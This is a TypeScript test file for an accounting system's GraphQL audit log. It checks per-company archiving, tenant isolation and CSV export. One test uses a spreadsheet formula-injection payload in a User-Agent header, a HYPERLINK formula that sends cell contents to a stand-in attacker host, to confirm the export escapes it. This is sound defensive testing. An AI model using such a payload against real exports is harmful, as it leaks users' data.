import { DEMO_PASSWORD, demoPlan } from '@kabinet/dev';
import { eventually, postGraphQL } from '@kabinet/kit/testing';
import { parse } from 'csv-parse/sync';
import { type RunningSystem, startSystem } from '../src/system';

const AUDIT = `query ($filter: AuditFilter) { auditLog(filter: $filter) { edges { node {
  action outcome target actorRole ip userAgent company { id name } } } } }`;
interface Audit {
  auditLog: { edges: { node: Record<string, unknown> }[] };
}
const POST = `mutation ($input: PostLedgerEntryInput!) { postLedgerEntry(input: $input) { sequence } }`;

describe('the action archive through the gateway', () => {
  const plan = demoPlan([
    { key: 'alpha', name: 'ООО «Альфа»', accounts: 2 },
    { key: 'beta', name: 'ООО «Бета»', accounts: 2 },
  ]);
  const [alpha, beta] = plan.companies;
  let system: RunningSystem;
  beforeAll(async () => {
    system = await startSystem(plan);
  });
  afterAll(() => system?.stop());

  const archive = (token: string, action: string, count: number) =>
    eventually(async () => {
      const result = await system.query<Audit>(AUDIT, { filter: { action } }, token);
      const nodes = result.data?.auditLog.edges.map((e) => e.node) ?? [];
      return nodes.length >= count && nodes;
    }, `${count} ${action} events in the archive`);

  it('files staff postings and refused attempts from any subgraph under the company they concern', async () => {
    const operator = await system.login('operator', DEMO_PASSWORD);
    const admin = await system.login(alpha.admin.login, DEMO_PASSWORD);
    const input = (idempotencyKey: string) => ({
      accountId: alpha.accounts[0].id,
      kind: 'PAYMENT',
      amount: '10.00',
      description: 'Оплата',
      idempotencyKey,
    });
    expect((await system.query(POST, { input: input('archive-1') }, operator)).errors).toBeUndefined();
    const refused = await system.query(POST, { input: input('archive-2') }, admin);
    expect(refused.errors?.[0].extensions?.code).toBe('FORBIDDEN');

    const events = await archive(admin, 'billing.postLedgerEntry', 2);
    expect(events).toEqual([
      expect.objectContaining({
        outcome: 'FORBIDDEN',
        actorRole: 'ADMIN',
        company: { id: alpha.id, name: alpha.name },
      }),
      expect.objectContaining({
        outcome: 'OK',
        actorRole: 'OPERATOR',
        target: `accountId=${alpha.accounts[0].id}`,
        ip: expect.stringMatching(/127\.0\.0\.1/),
        company: { id: alpha.id, name: alpha.name },
      }),
    ]);
    // Beta's administrator sees none of it.
    const betaAdmin = await system.login(beta.admin.login, DEMO_PASSWORD);
    const betaView = await system.query<Audit>(
      AUDIT,
      { filter: { action: 'billing.postLedgerEntry' } },
      betaAdmin,
    );
    expect(betaView.data?.auditLog.edges).toEqual([]);
  });

  it('exports the archive as CSV in which text a caller chose never opens as a formula', async () => {
    const formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")';
    const refused = await postGraphQL(
      system.gatewayUrl,
      'mutation ($i: LoginInput!) { login(input: $i) { accessToken } }',
      { i: { login: beta.admin.login, password: 'wrong-password-123' } },
      { 'user-agent': formula },
    );
    expect(refused.errors?.[0].extensions?.code).toBe('UNAUTHENTICATED');

    const admin = await system.login(beta.admin.login, DEMO_PASSWORD);
    const rows = await eventually(async () => {
      const result = await system.query<{ auditLogCsv: string }>(
        'query ($filter: AuditFilter) { auditLogCsv(filter: $filter) }',
        { filter: { action: 'identity.login', actorId: beta.admin.id } },
        admin,
      );
      const parsed: Record<string, string>[] = parse(result.data?.auditLogCsv ?? '', { columns: true });
      return parsed.some((row) => row.outcome === 'UNAUTHENTICATED') && parsed;
    }, 'the refused sign-in in the CSV');
    const refusedRow = rows.find((row) => row.outcome === 'UNAUTHENTICATED');
    expect(refusedRow?.userAgent).toBe(`'${formula}`);
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
